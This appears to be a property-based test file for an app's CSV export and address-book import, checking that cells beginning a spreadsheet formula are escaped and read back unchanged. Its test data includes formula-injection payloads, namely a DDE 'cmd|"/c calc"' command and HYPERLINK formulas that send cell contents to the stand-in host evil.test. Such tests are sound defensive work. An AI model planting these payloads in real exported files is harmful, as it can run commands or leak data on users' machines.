/** Cells that a spreadsheet would run, in what the whole app saves: read back it is what it was, and no cell begins a formula. */
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { asCsv } from '../../renderer/parts/controls/export-content.ts';
import { type App, startApp } from '../unit/support/app.ts';

let app: App;
beforeAll(async () => {
  app = await startApp();
});
afterAll(() => app.close());

const begins = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const attacks = ['cmd|"/c calc"!A1', 'HYPERLINK("https://evil.test/?"&A1)', '1+1', '', 'SUM(A1:A9),"x"\r\n=2'];
const cell = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.tuple(fc.constantFrom('', "'", "''"), fc.constantFrom(...begins), fc.constantFrom(...attacks)).map(parts => parts.join('')),
);

/** As a spreadsheet reads it, by a reader that knows nothing of ours. */
async function savedCells(header: string[], rows: string[][]): Promise<string[][]> {
  expect(await app.ask('files.save', { name: 'table', content: asCsv(header, rows) })).toMatchObject({ ok: true });
  const { data, errors } = Papa.parse<string[]>(app.saved.at(-1)?.text ?? '', { delimiter: ',', newline: '\r\n' });
  expect(errors).toEqual([]);
  // The file ends in a line break.
  return data.slice(0, -1);
}

test('of any table: no cell begins a formula, and each says what it said', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 5 }), async rows => {
      const all = [['=name', '@who', 'note'], ...rows];
      const read = await savedCells(all[0] ?? [], rows);
      expect(read.flat().filter(text => begins.includes(text.slice(0, 1)))).toEqual([]);
      const told = (text: string | undefined, written: string) => (text === `'${written}` ? written : text);
      expect(all.map((row, y) => row.map((written, x) => told(read[y]?.[x], written)))).toEqual(all);
      expect(read.length).toBe(all.length);
    }),
    { numRuns: 200 },
  );
});

test('each of the ways to begin one, before each attack', async () => {
  const rows = begins.flatMap(begin => attacks.map(attack => [`${begin}${attack}`, begin, attack]));
  const read = await savedCells(['a', 'b', 'c'], rows);
  for (const [n, [first, second]] of read.slice(1).entries()) {
    expect([first, second]).toEqual([`'${rows[n]?.[0]}`, `'${rows[n]?.[1]}`]);
  }
});

test('an address book that was saved is read in again as it was, formulas and all', async () => {
  const address = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed';
  const label = '=HYPERLINK("https://evil.test/","Payroll")';
  await savedCells(['label', 'address', 'kind', 'note'], [[label, address, 'own', '@SUM(A1)']]);
  const text = app.saved.at(-1)?.text ?? '';
  const read = await app.ask('address_book.import_check', { text, format: 'csv' });
  expect(read).toMatchObject({ ok: true });
  expect(JSON.stringify(read)).toContain(JSON.stringify(label));
  expect(JSON.stringify(read)).not.toContain(JSON.stringify(`'${label}`));
});
